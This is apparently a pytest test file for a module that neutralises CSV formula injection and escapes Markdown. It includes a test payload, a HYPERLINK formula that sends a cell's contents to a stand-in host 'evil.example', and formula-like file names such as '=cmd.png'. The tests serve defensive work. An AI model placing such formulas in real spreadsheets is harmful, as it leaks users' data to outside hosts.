"""Text people wrote stays text: CSV cells that would run as formulas, Markdown that would
render."""
import csv
import io

import numpy as np
import pytest

from core.cli import main
from core.io import write_image
from core.plaintext import FORMULA_STARTS, escape_markdown, safe_cell, write_csv


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_text_starting_a_formula_gets_an_apostrophe(start):
    text = f"{start}HYPERLINK(\"http://evil.example/?\"&A1)"
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-1, -0.25, 3, 0.0, "-1", "+2.5", "-3e4", "cells.png", "",
                                   "a=b", " =x"])
def test_numbers_and_harmless_text_are_never_altered(value):
    assert safe_cell(value) is value


def test_a_written_csv_reads_back_with_the_csv_module():
    rows = [{"file": "=1+1", "count": -1, "note": "@me"},
            {"file": "\tTAB", "count": 4, "note": float("nan")},
            {"file": "plain.png", "count": None}]
    buf = io.StringIO()
    assert write_csv(buf, ["file", "count", "note"], rows) == 3
    back = list(csv.DictReader(io.StringIO(buf.getvalue())))
    assert [r["file"] for r in back] == ["'=1+1", "'\tTAB", "plain.png"]
    assert [r["count"] for r in back] == ["-1", "4", ""]      # -1 stays the number -1
    assert [r["note"] for r in back] == ["'@me", "", ""]


def test_escaped_markdown_keeps_every_character_and_escapes_every_mark():
    text = "**bold** [here](http://x.org) :red[alarm] $x^2$ <b>hi</b> _under_ `code` # h"
    out = escape_markdown(text)
    # Removing the escapes gives the text back, and no special mark is left unescaped.
    assert out.replace("\\", "") == text.replace("\\", "")
    for i, ch in enumerate(out):
        if ch in "*[]():$<>_`#" and ch != "\\":
            assert out[i - 1] == "\\", (ch, out[: i + 1])
    assert escape_markdown("two\nlines") == "two lines"


def test_core_count_csv_escapes_a_formula_file_name(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    rgb = np.zeros((64, 64, 3), np.uint8)
    rgb[20:40, 20:40] = (200, 160, 14)
    write_image(tmp_path / "+plain.png", rgb)
    (tmp_path / "=cmd.png").write_bytes(b"\x89PNG\r\n\x1a\n truncated")
    assert main(["count", "+plain.png", "=cmd.png", "--out", "counts.csv", "--quiet"]) == 0
    with open(tmp_path / "counts.csv", newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["file"] for r in rows] == ["'+plain.png", "'=cmd.png"]
    assert rows[0]["count"].isdigit() and rows[1]["count"] == ""
    assert rows[1]["error"].startswith("'=cmd.png")
